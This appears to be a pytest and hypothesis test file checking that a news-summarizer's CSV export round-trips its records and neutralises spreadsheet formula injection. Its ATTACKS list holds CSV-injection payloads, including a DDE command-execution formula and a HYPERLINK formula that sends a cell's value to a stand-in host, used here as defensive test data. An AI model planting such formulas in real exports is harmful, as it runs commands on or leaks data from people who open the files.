"""CSV: what a program reads back from it, and what a spreadsheet must never run."""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from io import StringIO
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from report_factory import HOSTILE, hostile_report, renamed_sections, sample_report

from summarizer.models import Estimate, Estimates, MergedEntities, MergedPlaces, Place, Places, Report, StrengthLines
from summarizer.rendering import render
from summarizer.rendering.csv_ import defused, restored, to_csv
from summarizer.rendering.phrases import clean
from summarizer.rendering.tables import ESTIMATE_COLUMNS, NAME_COLUMNS

RUNS = re.compile(r"[\s\"\u200c\u200d]*[=+\-@＝＋－＠﹦﹢﹣﹫]")
"""What a spreadsheet may take for a formula where a cell begins with it."""

ATTACKS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", " \u00a0=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)",
    '=HYPERLINK("http://evil.example?x="&A1,"click")', "=cmd|' /C calc'!A0", '"=1+1', "'=1+1", "\x00=1+1",
    "\u200b=1+1", "\ufeff=1+1", "\u202e=1+1", "a;=1+1", 'a; "=1+1"', "a\n=1+1", "a;\t-1+1", ";;=1", "a,=1+1",
    "- 5 dead", HOSTILE,
)  # fmt: skip


def rows(text: str) -> list[dict[str, str]]:
    """Return the records of a CSV as a program reads them."""
    return list(csv.DictReader(StringIO(text), strict=True))


def texts(report: Report, format: str) -> list[dict[str, str]]:
    """Return the records with what was put before formulas taken away again."""
    return [{k: restored(v) for k, v in r.items()} for r in rows(render(report, format=format))]


# -------------------------------------------------------------------------------------------------------------- figures


def _same(row: dict[str, str], estimate: Estimate, **more: Any) -> None:
    """Check that a record says what an estimate says."""
    for column in ("measure", "holder", "place", "qualifier", "unit", "counted", "said_by", "assertion", "as_of",
                   "as_of_basis", "part_of", "id"):  # fmt: skip
        assert row[column] == (getattr(estimate, column) or ""), column
    bounds = [float(row[c]) if row[c] else None for c in ("low", "high")]
    assert bounds == [estimate.low, estimate.high]
    assert (row["via"], row["notes"]) == ("; ".join(estimate.via), "; ".join(estimate.notes))
    first = estimate.evidence[0]
    assert (row["quote"], int(row["start"]), int(row["end"])) == (clean(first.quote), first.start, first.end)
    assert row["article_id"] == first.article
    for column, value in more.items():
        assert row[column] == value, column


def test_each_figure_of_the_brief_is_a_record() -> None:
    """All figures of all lines are there, in order, with how their line stands and who first gave them."""
    report = sample_report()
    assert report.brief
    lines = report.brief.sections["strength"]
    assert isinstance(lines, StrengthLines)
    found = texts(report, "csv")
    told = [(n, line, e) for n, line in enumerate(lines.items, 1) for e in line.estimates]
    assert len(found) == len(told)
    for row, (number, line, estimate) in zip(found, told, strict=True):
        _same(row, estimate, section="strength", line=str(number), status=line.status, origin=estimate.origin or "")
        assert row["line_text"] == line.text
        assert [float(row[c]) if row[c] else None for c in ("line_low", "line_high")] == [line.low, line.high]


def test_without_a_brief_the_figures_of_each_article_are_records() -> None:
    """The columns are the same; those that only a merged brief can fill are empty."""
    report = sample_report(brief=False)
    found = texts(report, "csv")
    sections = [b.sections["strength"] for b in sorted(report.articles, key=lambda b: b.article.path or "")]
    told = [e for s in sections if isinstance(s, Estimates) for e in s.items]
    assert len(found) == len(told) > 9
    for row, estimate in zip(found, told, strict=True):
        _same(row, estimate, section="strength", line="", status="", origin="", line_text="")
    assert list(found[0]) == list(texts(sample_report(), "csv")[0]) == list(ESTIMATE_COLUMNS)


def test_a_record_tells_its_article() -> None:
    """Number, outlet, title, date and path are those of the article that the quote stands in."""
    row = texts(sample_report(), "csv")[0]
    told = {c: row[c] for c in ("article", "articles", "outlet", "title", "author", "published", "path", "url")}
    assert told == {
        "article": "1", "articles": "1", "outlet": "The Herald", "title": "River war: what we know",
        "author": "Ada Ray", "published": "2018-09-13", "path": "in/a.txt", "url": "",
    }  # fmt: skip
    assert row["figure"] == "up to 2,000 fighters"


def test_a_figure_that_several_articles_carry_is_one_record() -> None:
    """It is counted once, and says which articles carry it and what else bears it."""
    report = sample_report()
    assert report.brief
    lines = report.brief.sections["strength"]
    assert isinstance(lines, StrengthLines)
    killed = next(line for line in lines.items if line.measure == "killed")
    one, other = killed.estimates
    both = one.model_copy(update={"evidence": (*one.evidence, *other.evidence), "articles": ("a1", "a3")})
    section = StrengthLines(items=(killed.model_copy(update={"estimates": (both,)}),))
    sections = {**report.brief.sections, "strength": section}
    (row,) = texts(report.model_copy(update={"brief": report.brief.model_copy(update={"sections": sections})}), "csv")
    assert (row["article"], row["articles"]) == ("1", "1; 3")
    assert row["other_quotes"] == "[3] “The Velda Monitor counted 27 dead fighters”"


def test_any_domain_has_the_same_columns() -> None:
    """The sections' own names stand in the records, and two sections of estimates come one after the other."""
    renamed = renamed_sections(sample_report(), {"strength": "losses", "who": "actors", "where": "areas"})
    assert {r["section"] for r in texts(renamed, "csv")} == {"losses"}
    assert {r["section"] for r in texts(renamed, "csv-names")} == {"actors", "areas"}
    assert len(texts(renamed, "csv")) == len(texts(sample_report(), "csv"))


# ---------------------------------------------------------------------------------------------------------------- names


def test_each_name_of_the_brief_is_a_record() -> None:
    """Actors and places stand in one table, told apart by their kind, with all that the report knows of them."""
    report = sample_report()
    assert report.brief
    who, where = (report.brief.sections[s] for s in ("who", "where"))
    assert isinstance(who, MergedEntities)
    assert isinstance(where, MergedPlaces)
    found = texts(report, "csv-names")
    assert [r["name"] for r in found] == [i.name for i in (*who.items, *where.items)]
    assert found[0] == {
        "section": "who", "kind": "armed_group", "name": "Northern Front", "aliases": "NF; Front", "country": "",
        "lat": "", "lon": "", "mentions": "9", "article_count": "3", "articles": "1; 2; 3",
        "article_ids": "a1; a2; a3", "reasons": "NF: initials",
    }  # fmt: skip
    velda = found[len(who.items)]
    assert [velda[c] for c in ("kind", "country", "lat", "lon")] == ["place", "VE", "1.5", "2.25"]
    assert tuple(velda) == NAME_COLUMNS


def test_without_a_brief_each_article_has_its_own_names() -> None:
    """A name that two articles have is two records, each with its article and its mentions there."""
    found = texts(sample_report(brief=False), "csv-names")
    front = [(r["articles"], r["mentions"], r["article_count"]) for r in found if r["name"] == "Northern Front"]
    assert front == [("1", "1", "1"), ("3", "1", "1")]
    assert tuple(found[0]) == NAME_COLUMNS


def test_a_position_in_the_south_west_stays_a_number() -> None:
    """A minus sign before a coordinate is no formula: the cell is bare, and a program reads the number."""
    report = sample_report(brief=False)
    first = report.articles[0]
    lima = Places(items=(Place(name="Lima", country="PE", lat=-12.5, lon=-77.0),))
    brief = first.model_copy(update={"sections": {**first.sections, "where": lima}})
    text = render(report.model_copy(update={"articles": (brief,)}), format="csv-names")
    assert '"PE",-12.5,-77,' in text
    (row,) = [r for r in rows(text) if r["name"] == "Lima"]
    assert (float(row["lat"]), float(row["lon"])) == (-12.5, -77.0)


# ---------------------------------------------------------------------------------------------------------------- cells


def _split(text: str) -> Iterable[str]:
    """Yield every cell that some spreadsheet makes of a CSV: by commas as it is meant, and cut at other signs."""
    yield from (cell for line in csv.reader(StringIO(text)) for cell in line)
    for sign in ";\t":
        yield from (cell for line in csv.reader(StringIO(text), delimiter=sign) for cell in line)
    yield from re.split(r"[;\t\n]", text)


@pytest.mark.parametrize("format", ["csv", "csv-names"])
@pytest.mark.parametrize("brief", [True, False])
@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_can_be_run(format: str, brief: bool, attack: str) -> None:
    """Whatever an article says, no cell begins as a formula does, however a spreadsheet cuts the lines."""
    report = hostile_report(attack, brief=brief)
    text = render(report, format=format)
    assert text.count("\n") == len(rows(text)) + 1, "each record is one line"
    assert [c for c in _split(text) if RUNS.match(c) and not _is_number(c)] == []
    assert clean(attack) in {v for r in texts(report, format) for v in r.values()}, "the words are all there"


def _is_number(cell: str) -> bool:
    return re.fullmatch(r"-?\d+(\.\d+)?", cell) is not None


@settings(deadline=None)
@given(
    st.lists(
        st.text() | st.text(alphabet=st.sampled_from(list("=+-@;'\", \t\r\n\x00a1＝－\u200c"))) | st.none()
        | st.integers() | st.floats(allow_nan=False, allow_infinity=False),
        min_size=3, max_size=3,
    )
)  # fmt: skip
def test_whatever_is_written_is_read_back(cells: list[Any]) -> None:
    """Any three cells come back from a program, and no text among them can be run."""
    columns = ("a", "b", "c")
    text = to_csv(columns, [dict(zip(columns, cells, strict=True))])
    (row,) = rows(text)
    for cell, back in zip(cells, row.values(), strict=True):
        if isinstance(cell, str):
            assert restored(back) == clean(cell)
            assert RUNS.match(back) is None
        else:
            assert (back == "") if cell is None else float(back) == float(cell)
    assert text.count("\n") == 2


@settings(deadline=None)
@given(st.text(alphabet=st.sampled_from(list("=+-@;'\" a1＝")), max_size=12))
def test_what_was_defused_can_be_restored(text: str) -> None:
    """Taking the apostrophes away gives the text back, also where it had some itself."""
    assert restored(defused(text)) == text
    assert all(RUNS.match(piece) is None for piece in defused(text).split(";"))


@pytest.mark.parametrize("text", ["a = b", "2018-09-13", "Al-Hasakah; Raqqa", "it's", "5-6", "'quoted'", "", "a;b; c"])
def test_common_text_is_left_as_it_is(text: str) -> None:
    """Only what begins as a formula does gets an apostrophe."""
    assert defused(text) == text
